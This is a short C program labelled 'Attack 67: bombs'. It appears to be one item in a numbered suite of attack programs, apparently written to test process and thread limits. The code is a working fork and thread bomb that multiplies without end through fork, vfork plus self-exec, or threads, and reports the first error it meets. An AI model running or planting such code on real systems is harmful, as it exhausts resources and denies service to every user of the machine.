/* Attack 67: bombs KIND: multiply for ever, by fork, vfork and exec, or threads. The first one tells the first refusal. */
#include <errno.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static const char *kind;

static void *multiply(void *unused);

static int attempt(void)
{
	pthread_t thread;
	pid_t pid;

	if (!strcmp(kind, "threads"))
		return pthread_create(&thread, NULL, multiply, NULL);
	pid = strcmp(kind, "vfork") ? fork() : vfork();
	if (pid == 0 && !strcmp(kind, "vfork")) {
		execl("/proc/self/exe", "bombs", kind, "quiet", NULL);
		_exit(1);
	}
	return pid < 0 ? errno : 0;
}

static void *multiply(void *unused)
{
	for (;;)
		attempt();
	return unused;
}

int main(int argc, char **argv)
{
	pid_t first = getpid();
	int error;

	kind = argv[1];
	while (!(error = attempt()))
		;
	if (argc == 2 && getpid() == first)
		dprintf(1, "%d\n", error);
	multiply(NULL);
}
